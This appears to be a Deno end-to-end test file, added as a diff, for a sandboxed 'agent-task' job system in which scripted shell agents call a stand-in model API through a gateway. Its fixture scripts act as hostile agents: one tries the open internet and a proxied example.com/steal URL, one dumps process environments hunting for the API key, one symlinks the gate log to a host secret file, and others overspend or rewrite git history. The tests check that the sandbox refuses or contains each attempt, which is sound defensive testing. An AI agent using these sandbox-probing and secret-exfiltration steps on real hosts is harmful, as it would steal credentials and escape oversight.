@@ -1,0 +1,579 @@
+/**
+ * agent-task end to end (docs/PROTOCOL.md "agent-task (kind 5603)"): a town, the real provider
+ * node with the agent-task skill and presets whose commands are scripted agents (shell scripts,
+ * no model) calling a stand-in model API (tests/support/stand_in_model_api.ts, a mock: no real
+ * model can run here) through the job's gateway, the real sandbox and git, and a requester
+ * profile driven through its CLI as an agent drives it (its own node process).
+ *
+ * One network for all steps: the honest agent fixes the sample repository's failing test
+ * (fixtures/agent-repo), the requester applies the branch and the gate passes there, twice is
+ * once; the town's database and blobs hold nothing of the task or the repository in the clear;
+ * the stand-in saw the provider's key, the agent's environment and its job's processes did not.
+ * Then the hostile agents: one that reaches for anything but the gateway (refused and logged,
+ * the job goes on), one that overspends (stopped at its budget), one that rewrites history
+ * (never delivered, only the deposit paid); a failed gate declined (the deposit only, the key
+ * sealed); a preset the provider lacks (refused before any payment); the requester's node
+ * SIGKILLed while the agent runs (the job ends once, each invoice paid once, applied once).
+ */
+import { assert, assertEquals, assertStringIncludes } from "../support/assert.ts";
+import { initWalletWithCli } from "../support/run_cli.ts";
+import { startRequesterNetwork } from "../support/requester_network.ts";
+import { agentSkillsDir, requesterProfile } from "../support/agent_task_kit.ts";
+import { spawnCli } from "../support/cli_process.ts";
+import { hasProcessWith } from "../support/process_scan.ts";
+import { startStandInModelApi } from "../support/stand_in_model_api.ts";
+import { type TempGitRepo, tempGitRepo } from "../support/temp_git_repo.ts";
+import type { AgentPreset } from "../../config/agent_presets.ts";
+import { parseProviderJobRecord } from "../../state/provider_job_record.ts";
+
+const FIXTURE = new URL("../../fixtures/agent-repo", import.meta.url).pathname;
+/** The gate: the sample's test, and no way out: the gateway's forwarder is gone by then. */
+const GATE = 'sh test.sh && ! curl -s -m 5 "$TURNPIKE_MODEL_GATEWAY/v1/models"';
+/** A file of the provider's host that no job may read (snoop.sh links to it). */
+const HOST_SECRET = `/tmp/turnpike-agent-host-secret-${crypto.randomUUID()}`;
+/** In the task's title and text: must never be found in the clear on the town. */
+const MARKER = "MARKER-agent-task-7c1e90";
+
+/** The scripted agents: each a shell script the preset runs in the worktree. */
+function agentScripts(): Record<string, string> {
+  const call =
+    `curl -sS -o /dev/null -w '%{http_code}\\n' -X POST "$ANTHROPIC_BASE_URL/v1/messages" ` +
+    `-H 'content-type: application/json' ` +
+    `-d '{"model":"stand-in","max_tokens":16,"messages":[{"role":"user","content":"fix add"}]}'`;
+  const fix = [
+    `sed -i 's/\\$1 - \\$2/$1 + $2/' add.sh`,
+    "git add add.sh",
+    "git commit -q -m 'add: add, not subtract'",
+  ].join("\n");
+  return {
+    // Reads its task, asks the model once, fixes add.sh, and leaves what it could see.
+    "fix.sh": [
+      "set -e",
+      `grep -q '${MARKER}' "$TURNPIKE_TASK"`,
+      `${call} > model-call.txt`,
+      "env | sort > agent-env.txt",
+      "for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; tr '\\0' '\\n' < $p/environ; done " +
+      "> agent-procs.txt 2>/dev/null || true",
+      "git add model-call.txt agent-env.txt agent-procs.txt",
+      fix,
+    ].join("\n"),
+    // Tries the world, then the gateway for another host and another path; then does the work.
+    "elsewhere.sh": [
+      "set -e",
+      "curl -sS -m 5 http://1.1.1.1/ > /dev/null 2> direct.txt && echo reached >> direct.txt || true",
+      `curl -sS -m 5 -o /dev/null -w '%{http_code}\\n' -x "$TURNPIKE_MODEL_GATEWAY" ` +
+      "http://example.com/steal > proxied.txt || true",
+      `curl -sS -m 5 -o /dev/null -w '%{http_code}\\n' "$ANTHROPIC_BASE_URL/v1/files" ` +
+      "> other-path.txt || true",
+      `${call} > model-call.txt`,
+      "git add direct.txt proxied.txt other-path.txt model-call.txt",
+      fix,
+    ].join("\n"),
+    // Calls the model until it is stopped, committing as it goes.
+    "overspend.sh": [
+      "i=0",
+      "while [ $i -lt 200 ]; do",
+      `  ${call} >> calls.txt`,
+      "  i=$((i + 1))",
+      "done",
+      fix,
+    ].join("\n"),
+    // Waits (in the sandbox, which sees the skill's folder as it is) until the test says go.
+    // Fixes add, and makes the gate (its own test.sh) leave out/gate.log a link to a host file.
+    "snoop.sh": [
+      "set -e",
+      `printf '%s\\n' 'rm -f "$TURNPIKE_OUTPUTS/gate.log"' ` +
+      `'ln -s ${HOST_SECRET} "$TURNPIKE_OUTPUTS/gate.log"' | cat - test.sh > t && mv t test.sh`,
+      "git add test.sh",
+      fix,
+    ].join("\n"),
+    "slow.sh": [
+      `while [ ! -e "$(dirname "$0")/go" ]; do sleep 0.1; done`,
+      fix,
+    ].join("\n"),
+    // Commits a change that does not fix add: the gate fails.
+    "broken.sh": [
+      "set -e",
+      "echo '# looked at it' >> add.sh",
+      "git commit -q -am 'add: a comment'",
+    ].join("\n"),
+    // Commits a fix on top of a rewritten base (its own history, not the requester's).
+    "rewrite.sh": [
+      "set -e",
+      "git commit -q --amend -m 'the base, rewritten'",
+      fix,
+    ].join("\n"),
+  };
+}
+
+Deno.test("agent-task: a scripted agent fixes a failing test behind the gateway, applied as a branch; the town sees ciphertext only; hostile agents are refused, stopped, never delivered", async () => {
+  const apiKey = `sk-provider-${crypto.randomUUID()}`;
+  await using api = await startStandInModelApi({ apiKey });
+  const skills = await agentSkillsDir(agentScripts());
+  const skillDir = `${skills}/agent-task`;
+  const preset = (name: string, budget: bigint): AgentPreset => ({
+    name,
+    command: `sh ${skillDir}/agents/${name}.sh`,
+    // The honest agent's preset costs 1,000 more than the skill; the others nothing more.
+    price: name === "fix" ? 1000n : 0n,
+    budget,
+    flavor: "anthropic",
+    upstream: api.url,
+    apiKey,
+    // 1,000 input and 200 output tokens a call (the stand-in's): 1 + 1 units a call.
+    inputPerMillion: 1000n,
+    outputPerMillion: 5000n,
+    headers: { "anthropic-version": "2023-06-01" },
+  });
+  const townDir = await Deno.makeTempDir({ prefix: "turnpike-agent-town-" });
+  const net = await startRequesterNetwork({
+    providerSkillsDir: skills,
+    providerOptions: {
+      agents: Object.fromEntries(
+        ["fix", "elsewhere", "overspend", "rewrite", "broken", "slow", "snoop"].map((
+          n,
+        ) => [n, preset(n, 1000n)]),
+      ),
+    },
+    town: { stateDir: townDir, databasePath: `${townDir}/town-events.sqlite` },
+  });
+  /** The provider's payment log has one payment in for the job: its deposit. */
+  const assertProviderPaidOnce = async (job: string) => {
+    const lines = (await Deno.readTextFile(`${net.root}/provider/payment_log.jsonl`)).trim()
+      .split("\n").map((l) => JSON.parse(l) as { jobId?: string; direction: string });
+    assertEquals(lines.filter((l) => l.jobId === job && l.direction === "in").length, 1);
+  };
+  try {
+    const alice = await requesterProfile(net);
+    const repo = await tempGitRepo(`${net.root}/repo`);
+    const base = await commitSample(repo);
+    const bead = `${net.root}/bead.json`;
+    await Deno.writeTextFile(
+      bead,
+      JSON.stringify([{
+        id: "gt-42",
+        title: `Fix add (${MARKER})`,
+        description: `add.sh subtracts; test.sh fails. ${MARKER}`,
+        acceptance_criteria: "sh test.sh exits 0",
+        priority: 1,
+        issue_type: "bug",
+        labels: ["agent"],
+      }]),
+    );
+    const submit = (agent: string, ...more: string[]) =>
+      alice(
+        "job",
+        "submit",
+        "agent-task",
+        "--repo",
+        repo.dir,
+        "--bead",
+        bead,
+        "--accept",
+        agent === "broken" ? "sh test.sh" : GATE,
+        "--agent",
+        agent,
+        "--bid",
+        "1000000",
+        "--provider",
+        net.providerPubkey!,
+        "--timeout",
+        "240",
+        "--wait",
+        ...more,
+      );
+
+    // 0. The presets, with their prices and budgets, in the provider's 31990.
+    const listed = (await alice("providers")).lines[0].providers as {
+      skills: { name: string; agents?: { name: string }[] }[];
+    }[];
+    const served = listed.flatMap((p) => p.skills).find((s) => s.name === "agent-task");
+    assertEquals(served?.agents?.map((a) => a.name).sort(), [
+      "broken",
+      "elsewhere",
+      "fix",
+      "overspend",
+      "rewrite",
+      "slow",
+      "snoop",
+    ]);
+
+    // 1. The honest agent: done, applied as a branch, the gate passes there.
+    const done = await submit("fix");
+    assertEquals(done.code, 0, done.stderr + done.stdout);
+    const result = done.lines.find((l) => l.type === "result")!;
+    assertEquals(result.status, "done", JSON.stringify(result));
+    const id = String(result.job);
+    const applied = await alice("job", "results", id, "--apply");
+    assertEquals(applied.code, 0, applied.stderr);
+    const line = applied.lines[0];
+    assertEquals([line.type, line.created, line.verdict], ["applied", true, "pass"]);
+    assertEquals(line.base, base);
+    assertEquals(line.branch, `turnpike/${id.slice(0, 12)}`);
+    const again = await alice("job", "results", id, "--apply");
+    assertEquals([again.code, again.lines[0].created, again.lines[0].tip], [0, false, line.tip]);
+    // Another branch of that name at another commit (here the checked-out one): refused, unchanged.
+    const clash = await alice("job", "results", id, "--apply", "--branch", "main");
+    assertEquals(clash.code, 1, clash.stdout);
+    assertEquals([clash.lines[0].type, clash.lines[0].code], ["error", "result-refused"]);
+    // The checked-out branch and the working files are untouched; the branch passes its gate.
+    assertEquals(await repo.git("rev-parse", "HEAD"), base);
+    await repo.git("worktree", "add", "-q", `${net.root}/applied`, String(line.branch));
+    const gate = await new Deno.Command("sh", { args: ["test.sh"], cwd: `${net.root}/applied` })
+      .output();
+    assertEquals(gate.code, 0, new TextDecoder().decode(gate.stdout));
+    // The stand-in saw the provider's key; the agent's environment and processes did not.
+    const calls = api.seen.filter((r) => r.target === "/v1/messages");
+    assert(calls.length >= 1 && calls.every((r) => r.headers["x-api-key"] === apiKey));
+    const read = (name: string) => Deno.readTextFile(`${net.root}/applied/${name}`);
+    assertEquals((await read("model-call.txt")).trim(), "200");
+    const env = await read("agent-env.txt");
+    assertStringIncludes(env, "ANTHROPIC_BASE_URL=http://127.0.0.1:");
+    const procs = await read("agent-procs.txt");
+    assertStringIncludes(procs, "forwarder.ts");
+    for (const seen of [env, procs]) assert(!seen.includes(apiKey), "the key reached the job");
+    // The town holds ciphertext only: no task, no bundle in the clear.
+    const town = await allBytes(townDir);
+    assert(town.length > 0);
+    for (const clear of [MARKER, "git bundle", "refs/turnpike", "gt-42"]) {
+      assert(!town.includes(clear), `the town holds ${JSON.stringify(clear)} in the clear`);
+    }
+
+    // 2. Reaching past the gateway: refused and logged, the job goes on and is delivered.
+    const elsewhere = await submit("elsewhere");
+    assertEquals(elsewhere.code, 0, elsewhere.stderr);
+    const eid = String(elsewhere.lines.find((l) => l.type === "result")!.job);
+    const shown = (await alice("job", "results", eid)).lines[0];
+    const refusals = (shown.report as { model: { refusals: { code: string; target: string }[] } })
+      .model.refusals;
+    assertEquals(refusals.map((r) => r.code), ["forbidden", "forbidden"], JSON.stringify(refusals));
+    const eapplied = await alice("job", "results", eid, "--apply");
+    assertEquals(eapplied.code, 0, eapplied.stderr);
+    await repo.git(
+      "worktree",
+      "add",
+      "-q",
+      `${net.root}/elsewhere`,
+      String(eapplied.lines[0].branch),
+    );
+    const ereads = (name: string) => Deno.readTextFile(`${net.root}/elsewhere/${name}`);
+    assert(!(await ereads("direct.txt")).includes("reached"), "the world was reached");
+    assertEquals((await ereads("proxied.txt")).trim(), "403");
+    assertEquals((await ereads("other-path.txt")).trim(), "403");
+    assertEquals((await ereads("model-call.txt")).trim(), "200");
+    // The preset's price is the job's on top of the skill's quote, split as the skill splits it.
+    const billed = async (job: string) => {
+      const r = parseProviderJobRecord(
+        await Deno.readTextFile(`${net.root}/provider/provider-jobs/${job}.toml`),
+      );
+      return BigInt(r.price) + BigInt(r.deliveryPrice ?? "0");
+    };
+    assertEquals(await billed(id) - await billed(eid), 1000n);
+
+    // 3. Overspending: stopped at its budget (2 units a call, a budget of 5: the third call
+    // reaches it), nothing delivered, only the deposit paid.
+    const before = api.seen.length;
+    const over = await submit("overspend", "--budget", "5");
+    assertFailedWithDepositOnly(over, "budget");
+    assertEquals(api.seen.length - before, 3, "calls past the budget reached the model");
+    await assertProviderPaidOnce(String(over.lines.find((l) => l.type === "result")!.job));
+
+    // 4. A rewritten history: never delivered, only the deposit paid.
+    const rewrite = await submit("rewrite");
+    assertFailedWithDepositOnly(rewrite, "history-rewritten");
+    await assertProviderPaidOnce(String(rewrite.lines.find((l) => l.type === "result")!.job));
+
+    // 5. A failed gate, declined: the delivery is not paid, the provider keeps the deposit and
+    // its job waits `delivered` (declined once its invoice expires), the key stays sealed.
+    const broken = await submit("broken", "--decline-failed");
+    assertFailedWithDepositOnly(broken, "declined");
+    const bid = String(broken.lines.find((l) => l.type === "result")!.job);
+    await assertProviderPaidOnce(bid);
+    const record = await Deno.readTextFile(`${net.root}/provider/provider-jobs/${bid}.toml`);
+    assertStringIncludes(record, 'status = "delivered"');
+    const sealedOnly = await alice("job", "results", bid, "--apply");
+    assertEquals(sealedOnly.code, 1, sealedOnly.stdout);
+    assertStringIncludes(sealedOnly.stderr + sealedOnly.stdout, "not-delivered");
+
+    // 6. A preset the provider does not have: refused before anything is paid.
+    const unknown = await submit("nosuch");
+    assert(unknown.code !== 0, unknown.stderr);
+    const refused = unknown.lines.find((l) => l.type === "result")!;
+    assertEquals(refused.status, "error", JSON.stringify(refused));
+    assertStringIncludes(String(refused.error), "no agent preset");
+    assertEquals((refused.receipts as unknown[]).length, 0);
+
+    // 6b. Links the job leaves in out/ are not followed on the host: the gate's log is empty.
+    await Deno.writeTextFile(HOST_SECRET, "HOST-SECRET-of-the-provider\n");
+    try {
+      const snoop = await submit("snoop");
+      assertEquals(snoop.code, 0, snoop.stderr);
+      const nid = String(snoop.lines.find((l) => l.type === "result")!.job);
+      const report = (await alice("job", "results", nid)).lines[0].report as {
+        verdict: string;
+        gate: { logTail: string };
+      };
+      assertEquals([report.verdict, report.gate.logTail], ["pass", ""]);
+      assertEquals(JSON.stringify(report).includes("HOST-SECRET"), false);
+    } finally {
+      await Deno.remove(HOST_SECRET);
+    }
+
+    // 7. The requester's node SIGKILLed while the agent runs: the next command's node follows
+    // the job to its end; deposit and delivery each paid once, the branch applied once.
+    const posted = await alice(
+      "job",
+      "submit",
+      "agent-task",
+      "--repo",
+      repo.dir,
+      "--title",
+      "Fix add",
+      "--accept",
+      "sh test.sh",
+      "--agent",
+      "slow",
+      "--bid",
+      "1000000",
+      "--provider",
+      net.providerPubkey!,
+    );
+    assertEquals(posted.code, 0, posted.stderr);
+    const sid = String(posted.lines.find((l) => l.type === "job")!.id);
+    const providerRecord = `${net.root}/provider/provider-jobs/${sid}.toml`;
+    while (!(await Deno.readTextFile(providerRecord).catch(() => "")).includes('"running"')) {
+      await new Promise((r) => setTimeout(r, 100));
+    }
+    const node = (await alice("node", "status")).lines[0].node as { pid: number };
+    Deno.kill(node.pid, "SIGKILL");
+    await Deno.writeTextFile(`${skillDir}/agents/go`, "");
+    const waited = await alice("job", "wait", sid);
+    assertEquals(waited.code, 0, waited.stderr);
+    const end = waited.lines.find((l) => l.type === "result")!;
+    assertEquals(end.status, "done", JSON.stringify(end));
+    assertEquals((end.receipts as unknown[]).length, 2, JSON.stringify(end.receipts));
+    const payments = (await Deno.readTextFile(`${net.root}/provider/payment_log.jsonl`)).trim()
+      .split("\n").map((l) => JSON.parse(l) as { jobId?: string; direction: string });
+    assertEquals(payments.filter((l) => l.jobId === sid && l.direction === "in").length, 2);
+    const first = await alice("job", "results", sid, "--apply");
+    const second = await alice("job", "results", sid, "--apply");
+    assertEquals([first.code, first.lines[0].created], [0, true], first.stderr);
+    assertEquals([second.code, second.lines[0].created], [0, false], second.stderr);
+  } finally {
+    await net.stop();
+    await Deno.remove(skills, { recursive: true }).catch(() => {});
+    await Deno.remove(townDir, { recursive: true }).catch(() => {});
+  }
+});
+
+/** Commits fixtures/agent-repo into `repo`; returns the commit. */
+async function commitSample(repo: TempGitRepo): Promise<string> {
+  const files: Record<string, string> = {};
+  for (const name of ["README.md", "add.sh", "test.sh"]) {
+    files[name] = await Deno.readTextFile(`${FIXTURE}/${name}`);
+  }
+  return await repo.commit("the sample", files);
+}
+
+/** A job that ended `error` for `why`, having paid one invoice (the deposit). */
+function assertFailedWithDepositOnly(
+  out: { code: number; stderr: string; lines: Record<string, unknown>[] },
+  why: string,
+): void {
+  assert(out.code !== 0, out.stderr);
+  const result = out.lines.find((l) => l.type === "result")!;
+  assertEquals(result.status, "error", JSON.stringify(result));
+  assertStringIncludes(String(result.error), why);
+  assertEquals((result.receipts as unknown[]).length, 1, JSON.stringify(result.receipts));
+}
+
+/** Every file under `dir`, as one Latin-1 string (bytes searched as they are). */
+async function allBytes(dir: string): Promise<string> {
+  const parts: string[] = [];
+  for await (const entry of Deno.readDir(dir)) {
+    const path = `${dir}/${entry.name}`;
+    if (entry.isDirectory) parts.push(await allBytes(path));
+    else if (entry.isFile) {
+      parts.push(new TextDecoder("latin1").decode(await Deno.readFile(path)));
+    }
+  }
+  return parts.join("\n");
+}
+
+Deno.test("agent-task: the provider (node up, its [agents] from config.toml) SIGKILLed mid-agent: after its restart the job ends once, error, the deposit its only payment", async () => {
+  await using api = await startStandInModelApi({ apiKey: "sk-provider-restart" });
+  const skills = await agentSkillsDir(agentScripts());
+  const net = await startRequesterNetwork({ provider: false });
+  const root = `${net.root}/beta`;
+  let provider: ReturnType<typeof spawnCli> | undefined;
+  try {
+    await Deno.mkdir(`${root}/state`, { recursive: true });
+    await Deno.writeTextFile(`${root}/pass`, "provider passphrase\n");
+    await initWalletWithCli({ stateDir: `${root}/state`, passphraseFile: `${root}/pass` });
+    await Deno.writeTextFile(
+      `${root}/state/config.toml`,
+      [
+        "[agents.slow]",
+        `command = "sh ${skills}/agent-task/agents/slow.sh"`,
+        "budget = 1000",
+        `upstream = "${api.url}"`,
+        'api_key_env = "BETA_MODEL_KEY"',
+        "",
+      ].join("\n"),
+    );
+    const up = () => {
+      const node = spawnCli([
+        "--state-dir",
+        `${root}/state`,
+        "--output",
+        "json",
+        "node",
+        "up",
+        "--connector-btp-url",
+        net.btpUrl.replace("btp+ws://", "btp+ws://beta:b@"),
+        "--btp-token",
+        "b",
+        "--relay-url",
+        net.relayUrl,
+        "--town-pubkey",
+        net.town.pubkey,
+        "--skills-dir",
+        skills,
+        "--passphrase-file",
+        `${root}/pass`,
+        "--non-interactive",
+      ], { env: { BETA_MODEL_KEY: "sk-provider-restart" } });
+      return node;
+    };
+    provider = up();
+    const info = JSON.parse(
+      await provider.waitForLine((l) => l.startsWith("{") && l.includes('"node-up"')),
+    ) as { pubkey: string };
+    const alice = await requesterProfile(net);
+    const repo = await tempGitRepo(`${net.root}/repo`);
+    await commitSample(repo);
+    const posted = await alice(
+      "job",
+      "submit",
+      "agent-task",
+      "--repo",
+      repo.dir,
+      "--title",
+      "Fix add",
+      "--accept",
+      "sh test.sh",
+      "--agent",
+      "slow",
+      "--bid",
+      "1000000",
+      "--provider",
+      info.pubkey,
+    );
+    assertEquals(posted.code, 0, posted.stderr + posted.stdout);
+    const id = String(posted.lines.find((l) => l.type === "job")!.id);
+    // The agent's sandbox runs (its unshare names the job's work dir as an argument).
+    while (!(await hasProcessWith(`${root}/state/work/${id}`))) {
+      await new Promise((r) => setTimeout(r, 100));
+    }
+    const socketDir = await Deno.readTextFile(`${root}/state/work/${id}.agent/gateway-dir`);
+    provider.child.kill("SIGKILL");
+    await provider.done;
+    // The agent would now finish: the restarted provider must not deliver its work.
+    await Deno.writeTextFile(`${skills}/agent-task/agents/go`, "");
+    provider = up();
+    await provider.waitForLine((l) => l.startsWith("{") && l.includes('"node-up"'));
+    const waited = await alice("job", "wait", id);
+    const end = waited.lines.find((l) => l.type === "result")!;
+    assertEquals(end.status, "error", JSON.stringify(end));
+    assertEquals((end.receipts as unknown[]).length, 1, JSON.stringify(end.receipts));
+    const payments = (await Deno.readTextFile(`${root}/state/payment_log.jsonl`)).trim()
+      .split("\n").map((l) => JSON.parse(l) as { jobId?: string; direction: string });
+    assertEquals(payments.filter((l) => l.jobId === id && l.direction === "in").length, 1);
+    assertEquals((await alice("job", "results", id, "--apply")).code, 1);
+    // What the run left on the provider's disk (the repository in the clear, the gateway's
+    // socket dir) is gone.
+    assertEquals(await Deno.stat(socketDir).then(() => true, () => false), false, socketDir);
+    for (const left of [id, `${id}.agent`]) {
+      assertEquals(
+        await Deno.stat(`${root}/state/work/${left}`).then(() => true, () => false),
+        false,
+      );
+    }
+  } finally {
+    if (provider) {
+      provider.child.kill("SIGTERM");
+      await provider.done;
+    }
+    await net.stop();
+    await Deno.remove(skills, { recursive: true }).catch(() => {});
+  }
+});
+
+Deno.test("agent-task in the rootless sandbox: the agent's commits come back and apply, its gateway call passes", async () => {
+  const apiKey = "sk-provider-rootless";
+  await using api = await startStandInModelApi({ apiKey });
+  const skills = await agentSkillsDir(agentScripts());
+  const net = await startRequesterNetwork({
+    providerSkillsDir: skills,
+    providerOptions: {
+      sandboxMode: "rootless",
+      agents: {
+        fix: {
+          name: "fix",
+          command: `sh ${skills}/agent-task/agents/fix.sh`,
+          price: 0n,
+          budget: 1000n,
+          flavor: "anthropic",
+          upstream: api.url,
+          apiKey,
+          inputPerMillion: 1000n,
+          outputPerMillion: 5000n,
+          headers: {},
+        },
+      },
+    },
+  });
+  try {
+    const alice = await requesterProfile(net);
+    const repo = await tempGitRepo(`${net.root}/repo`);
+    await commitSample(repo);
+    await Deno.writeTextFile(
+      `${net.root}/bead.json`,
+      JSON.stringify({ title: `Fix add ${MARKER}` }),
+    );
+    const done = await alice(
+      "job",
+      "submit",
+      "agent-task",
+      "--repo",
+      repo.dir,
+      "--bead",
+      `${net.root}/bead.json`,
+      "--accept",
+      GATE,
+      "--agent",
+      "fix",
+      "--bid",
+      "1000000",
+      "--provider",
+      net.providerPubkey!,
+      "--wait",
+    );
+    assertEquals(done.code, 0, done.stderr + done.stdout);
+    const id = String(done.lines.find((l) => l.type === "result")!.job);
+    const applied = await alice("job", "results", id, "--apply");
+    assertEquals([applied.code, applied.lines[0].verdict], [0, "pass"], applied.stderr);
+    await repo.git("worktree", "add", "-q", `${net.root}/applied`, String(applied.lines[0].branch));
+    const gate = await new Deno.Command("sh", { args: ["test.sh"], cwd: `${net.root}/applied` })
+      .output();
+    assertEquals(gate.code, 0);
+    assertEquals(
+      (await Deno.readTextFile(`${net.root}/applied/model-call.txt`)).trim(),
+      "200",
+    );
+    assert(!(await Deno.readTextFile(`${net.root}/applied/agent-procs.txt`)).includes(apiKey));
+  } finally {
+    await net.stop();
+    await Deno.remove(skills, { recursive: true }).catch(() => {});
+  }
+});
